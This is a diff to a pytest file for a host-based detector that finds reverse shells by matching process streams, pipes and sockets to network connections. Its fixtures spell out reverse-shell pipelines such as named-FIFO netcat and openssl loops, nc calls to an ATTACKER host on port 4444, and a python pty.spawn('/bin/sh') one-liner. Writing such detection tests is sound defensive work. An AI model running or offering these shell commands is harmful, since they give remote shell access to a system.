@@ -42,18 +42,71 @@ def test_shell_whose_streams_are_a_connection_is_found(guilty):
     assert found.entities == (Entity("process", guilty.key), Entity("address", ATTACKER))
 
 
-def test_shell_behind_a_relay_is_found():
-    pipes = ("pipe:[1]", "pipe:[2]", "pipe:[2]")
-    guilty = shell("sh", "-i", program="/usr/bin/dash", streams=pipes)
-    relay = process(
-        8,
-        executable="/usr/bin/nc.openbsd",
+def relay(pid: int, given: str, received: str, program: str = "/usr/bin/nc.openbsd"):
+    return process(
+        pid,
+        executable=program,
         arguments=("nc", ATTACKER, "4444"),
-        streams=("pipe:[2]", "pipe:[1]", ""),
+        streams=(given, received, ""),
         socket_inodes=(5,),
     )
-    (found,) = judged(judge, guilty, relay, connection())
-    assert found.entities[0] == Entity("process", guilty.key)
+
+
+LOOPS = {
+    "nc < /tmp/f | sh > /tmp/f": (
+        shell("sh", streams=("pipe:[1]", "/tmp/f", "")),
+        relay(8, "/tmp/f", "pipe:[1]"),
+    ),
+    "sh < /tmp/f | openssl > /tmp/f": (
+        shell("sh", "-i", streams=("/tmp/f", "pipe:[2]", "pipe:[2]")),
+        relay(8, "pipe:[2]", "/tmp/f", "/usr/bin/openssl"),
+    ),
+    "cat /tmp/f | sh | nc > /tmp/f": (
+        shell("sh", "-i", streams=("pipe:[1]", "pipe:[2]", "pipe:[2]")),
+        process(9, streams=("/dev/pts/0", "pipe:[1]", ""), open_files=("/tmp/f",)),
+        relay(8, "pipe:[2]", "/tmp/f"),
+    ),
+    "two pipes": (
+        shell("sh", "-i", streams=("pipe:[1]", "pipe:[2]", "pipe:[2]")),
+        relay(8, "pipe:[2]", "pipe:[1]"),
+    ),
+}
+
+
+@pytest.mark.parametrize("loop", LOOPS.values(), ids=LOOPS)
+def test_shell_behind_a_relay_is_found_with_the_relay(loop):
+    found = judged(judge, *loop, connection())
+    (obeys, passes) = (one.entities for one in found)
+    guilty, address = Entity("process", loop[0].key), Entity("address", ATTACKER)
+    assert obeys == (guilty, address)
+    assert passes == (Entity("process", "8:7"), guilty, address)
+
+
+def test_shell_between_two_relays_is_found_with_both():
+    guilty = shell("sh", streams=("pipe:[1]", "pipe:[2]", ""))
+    first, second = relay(8, "/dev/pts/0", "pipe:[1]"), relay(9, "pipe:[2]", "/dev/pts/0")
+    assert len(judged(judge, guilty, first, second, connection())) == 3
+
+
+def test_interpreter_whose_words_open_a_shell_is_found_as_it_waits():
+    words = ("python3", "-c", "import socket,pty;s=socket.socket();pty.spawn('/bin/sh')")
+    guilty = shell(
+        *words, program="/usr/bin/python3.11", streams=("/dev/null",) * 3, socket_inodes=(5,)
+    )
+    waiting = connection(state="listen", remote_address="", remote_port=0, local_port=99)
+    (found,) = judged(judge, guilty, waiting)
+    assert found.confidence == "medium"
+    assert found.entities == (Entity("process", guilty.key), Entity("port", "tcp/99"))
+    assert judged(judge, guilty) == []
+    nearby = connection(state="listen", remote_address="", remote_port=0, local_address="127.0.0.1")
+    assert judged(judge, guilty, nearby) == []
+
+
+def test_interpreter_that_already_obeys_is_found_once():
+    words = ("python3", "-c", "import socket,pty;s=socket.socket();pty.spawn('/bin/sh')")
+    guilty = shell(*words, program="/usr/bin/python3.11", socket_inodes=(5,))
+    (found,) = judged(judge, guilty, connection())
+    assert found.confidence == "high"
 
 
 @pytest.mark.parametrize(
@@ -66,7 +119,7 @@ def test_shell_behind_a_relay_is_found():
 )
 def test_relay_that_hands_out_a_shell_is_found_with_its_port(words):
     relay = process(7, executable=f"/usr/bin/{words[0]}", arguments=words, socket_inodes=(5,))
-    waiting = connection(state="listen", remote_address="", local_port=40404)
+    waiting = connection(state="listen", remote_address="", remote_port=0, local_port=40404)
     (found,) = judged(judge, relay, waiting)
     assert found.entities == (Entity("process", relay.key), Entity("port", "tcp/40404"))
 
@@ -87,16 +140,24 @@ def test_relay_that_hands_out_a_shell_is_found_with_its_port(words):
     ],
 )
 def test_ordinary_process_is_left_alone(innocent):
-    relay = process(
-        8, executable="/usr/bin/nc.openbsd", arguments=("nc",), streams=("pipe:[2]",),
-        socket_inodes=(5,),
-    )  # fmt: skip
-    assert judged(judge, innocent, relay, connection(), connection(inode=99, protocol="unix")) == []
+    other = relay(8, "pipe:[2]", "/dev/null")
+    unix = connection(inode=99, protocol="unix")
+    assert judged(judge, innocent, other, connection(), unix) == []
 
 
-def test_shell_between_pipes_of_its_own_is_left_alone():
-    first = shell("sh", streams=("pipe:[1]", "pipe:[2]", ""))
-    second = process(
-        8, executable="/usr/bin/grep", streams=("pipe:[2]", "", ""), socket_inodes=(5,)
-    )
-    assert judged(judge, first, second, connection()) == []
+@pytest.mark.parametrize(
+    "pipeline",
+    [
+        (shell("sh", streams=("pipe:[1]", "pipe:[2]", "")), process(8, streams=("pipe:[2]", "x"))),
+        (shell("sh", streams=("pipe:[1]", "pipe:[2]", "")), relay(8, "pipe:[2]", "pipe:[3]")),
+        (shell("sh", streams=("pipe:[1]", "/var/log/x", "")), relay(8, "", "/var/log/x")),
+        (shell("sh", streams=("/dev/null", "/dev/null", "")), relay(8, "/dev/null", "/dev/null")),
+        (
+            shell("sh", streams=("pipe:[1]", "/var/log/x", "")),
+            process(9, streams=("", "pipe:[1]", "/var/log/x"), open_files=("/var/log/x",)),
+            relay(8, "", "/var/log/x"),
+        ),
+    ],
+)
+def test_shell_in_a_pipeline_of_its_own_is_left_alone(pipeline):
+    assert judged(judge, *pipeline, connection()) == []
